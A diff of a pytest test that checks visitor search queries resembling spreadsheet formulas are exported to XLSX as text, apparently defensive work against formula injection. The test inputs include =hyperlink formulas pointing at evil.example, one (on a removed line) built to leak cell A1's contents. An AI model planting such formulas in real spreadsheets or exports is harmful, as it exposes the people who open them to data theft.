@@ -234,7 +234,8 @@ def xlsx_rows(client, name, **params):
     return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.iter_rows(min_row=2))
 
 
-@pytest.mark.parametrize("query", ['=hyperlink("http://evil.example/?d="&a1,"klikni")', "+1+1", "-1+1",
+# Only plausible searches reach the log (search.querylog.plausible): formulas that read like words still do.
+@pytest.mark.parametrize("query", ['=hyperlink("http://evil.example/";"klikni")', "+poplatek za psa", "-pes+kočka",
                                    "@sum(1+1)"])
 def test_a_visitors_query_that_looks_like_a_formula_reaches_spreadsheets_as_text(superuser_client, query):
     visitor = Client(HTTP_HOST="localhost")
